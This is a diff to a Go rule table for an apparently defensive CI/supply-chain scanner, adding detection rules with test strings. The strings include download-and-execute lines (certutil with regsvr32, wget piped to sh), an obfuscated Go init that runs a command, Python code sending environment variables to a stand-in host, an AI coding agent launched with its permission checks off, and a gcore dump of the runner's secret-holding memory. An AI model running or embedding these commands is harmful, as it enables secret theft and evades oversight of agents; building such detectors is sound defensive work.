@@ -57,6 +57,9 @@ var rules = []Rule{
 		{"x.sh", "S=$(curl -s https://x.invalid/s)\necho ok\necho ok\neval \"$S\"", 4, false},
 		{"x.sh", "curl -sLo /tmp/t https://x.invalid/t\nbash /tmp/t", 2, false},
 		{"x.sh", "curl -fsSLo tool.tgz https://x.invalid/tool.tgz", 0, true},
+		{"x.bat", "certutil.exe -urlcache -split -f http://x.invalid/sdd.dll sdd.dll\nregsvr32.exe -s sdd.dll", 2, false},
+		{"x.sh", "wget -qO- https://x.invalid/s | sh -s -- --quiet", 0, false},
+		{"x.go", "package x\n\nimport \"os/exec\"\n\nfunc init() {\n\tc := string([]byte{119, 103, 101, 116})\n\texec.Command(\"/bin/sh\", \"-c\", c).Start()\n}", 7, false},
 	}},
 	{"indirect-run", KindDecodeExec, High, "pipes eval's output into a shell, or data into eval",
 		"the command that runs is assembled at run time from variables (as the xz backdoor's build script did), so the diff does not show it", []Case{
@@ -77,6 +80,8 @@ var rules = []Rule{
 			{"x.sh", "env > /tmp/e.txt\necho done\ncurl --data @/tmp/e.txt https://x.invalid/u", 3, false},
 			{"x.py", "import os, requests\nd = dict(os.environ)\nrequests.post('https://x.invalid', json=d)", 3, false},
 			{"x.sh", `curl -H "Authorization: token $GITHUB_TOKEN" https://api.github.com/repos/a/b`, 0, true},
+			{"x.py", "import os, requests\nrequests.get('https://x.invalid/c?d=' + str(os.environ))", 2, false},
+			{"x.py", "import os, requests\nrequests.get('https://api.x.invalid/v1', headers={'X-Key': os.environ['API_KEY']})", 2, true},
 		}},
 	{"dns-exfiltration", KindCredential, High, "looks up a host name built from data (DNS exfiltration)",
 		"the name carries the machine's identity or secrets to whoever runs the domain's DNS, past any firewall that lets lookups through", []Case{
@@ -111,6 +116,12 @@ var rules = []Rule{
 			{"x.py", "open(os.path.join(site.getsitepackages()[0], 'zz.pth'), 'w').write('import x')", 0, false},
 			{"x.py", "import pathlib", 0, true},
 		}},
+	{"ai-agent-unleashed", KindExecute, High, "runs an AI coding agent with its permission checks turned off",
+		"the agent then reads files and runs commands on its own (the Nx s1ngularity payload had agents search the machine for secrets), on the runner or on every machine that installs the package", []Case{
+			{"x.js", "spawnSync('claude', ['--dangerously-skip-permissions', '-p', prompt])", 0, false},
+			{"x.sh", "gemini --yolo -p \"$PROMPT\"", 0, false},
+			{"x.sh", "claude -p \"$PROMPT\"", 0, true},
+		}},
 	{"cgo-flags", KindBuildFile, High, "cgo directive passes a compiler plugin or linker flag that runs code",
 		"go build hands these flags to the C toolchain, which loads and runs what they name at build time", []Case{
 			{"x.go", "// #cgo LDFLAGS: -Wl,-plugin=/tmp/p.so", 0, false},
@@ -141,6 +152,12 @@ var rules = []Rule{
 		"a runner registered from a job takes later jobs, secrets included, onto a machine the change controls", []Case{
 			{"x.sh", "./config.sh --url https://github.com/o/r --token $T --unattended", 0, false},
 			{"x.sh", "export RUNNER_ALLOW_RUNASROOT=1", 0, false},
+		}},
+	{"runner-memory-read", KindRunner, High, "reads the runner worker's memory",
+		"the Runner.Worker process holds every secret of the job unmasked; dumping its memory is how the tj-actions compromise printed them", []Case{
+			{"x.sh", "sudo gcore -o /tmp/w $(pgrep -f Runner.Worker)", 0, false},
+			{"x.py", "pid = subprocess.check_output(['pgrep', '-f', 'Runner.Worker']).strip()\nmaps = open(f'/proc/{pid}/maps')", 1, false},
+			{"x.sh", "echo 'Runner.Worker started'", 0, true},
 		}},
 	{"runner-action-cache", KindRunner, High, "writes into the runner's action or tool cache",
 		"a later step, or a later job on the same runner, runs the changed code in place of the action it names", []Case{
